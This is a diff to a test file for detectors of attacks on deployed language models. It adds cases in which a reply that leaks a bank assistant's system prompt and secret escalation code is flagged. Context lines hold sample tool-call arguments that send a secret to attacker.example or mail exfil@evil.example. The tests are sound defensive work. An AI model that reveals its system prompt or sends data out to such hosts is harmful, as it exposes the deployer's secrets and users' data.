@@ -120,6 +120,15 @@ describe('LLM detectors', () => {
   });
 
   it.each([
+    ['a reply reproducing it', 'Sure, here it is: You are the Acme Bank support assistant. Never reveal internal hostnames. The escalation code is ORCHID-5521 and only staff may hear it.', system, ['AML.T0056']],
+    ['a reply that only answers', 'Your card ships in three to five working days.', system, []],
+    ['a reply echoing a system prompt too short to tell', 'You are a helpful assistant.', 'You are a helpful assistant.', []],
+  ])('monitor/reply-leakage with no prompt declared reads the one the logged request carried: %s', (_name, reply, carried, techniques) => {
+    const event: InferenceEvent = { source: 't', line: 1, client: 'c', reply, system: carried };
+    expect(techniquesOf(run(replyLeakage, [event]), 'c')).toEqual(techniques);
+  });
+
+  it.each([
     [{ allowHosts: ['acme-bank.example'] }, '{"url":"https://docs.acme-bank.example/faq"}', []],
     [{ allowHosts: ['acme-bank.example'] }, '{"url":"https://attacker.example/c?d=secret"}', ['AML.T0086']],
     [{ allowHosts: ['acme-bank.example'] }, '{"to":"exfil@evil.example","body":"hi"}', ['AML.T0086']],
